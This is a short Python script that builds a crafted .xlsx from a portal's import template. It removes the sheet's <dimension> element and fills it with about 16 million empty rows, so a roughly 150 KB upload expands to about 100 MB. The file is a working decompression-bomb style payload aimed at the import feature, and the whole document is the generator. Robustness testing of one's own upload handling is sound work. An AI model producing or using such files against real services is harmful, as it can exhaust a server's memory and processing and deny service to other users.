"""Writes a small .xlsx (about 150 KB) whose sheet has no <dimension> element and about
16 million empty rows after the header: 100 MB once unzipped.

Usage: python make_sheet_without_dimension.py TEMPLATE.xlsx OUT.xlsx [ROWS]
TEMPLATE is the portal's own import template (its header row is kept).
"""

import re
import sys
import zipfile

template, out = sys.argv[1], sys.argv[2]
rows = int(sys.argv[3]) if len(sys.argv) > 3 else 16_000_000
with zipfile.ZipFile(template) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
    for item in zin.infolist():
        data = zin.read(item.filename)
        if item.filename == "xl/worksheets/sheet1.xml":
            data = re.sub(rb"<dimension[^>]*/>", b"", data)
            head, sep, tail = data.partition(b"</sheetData>")
            with zout.open(item.filename, "w", force_zip64=True) as f:
                f.write(head)
                chunk = b"<row/>" * 100_000
                for _ in range(rows // 100_000):
                    f.write(chunk)
                f.write(sep + tail)
            continue
        zout.writestr(item, data)
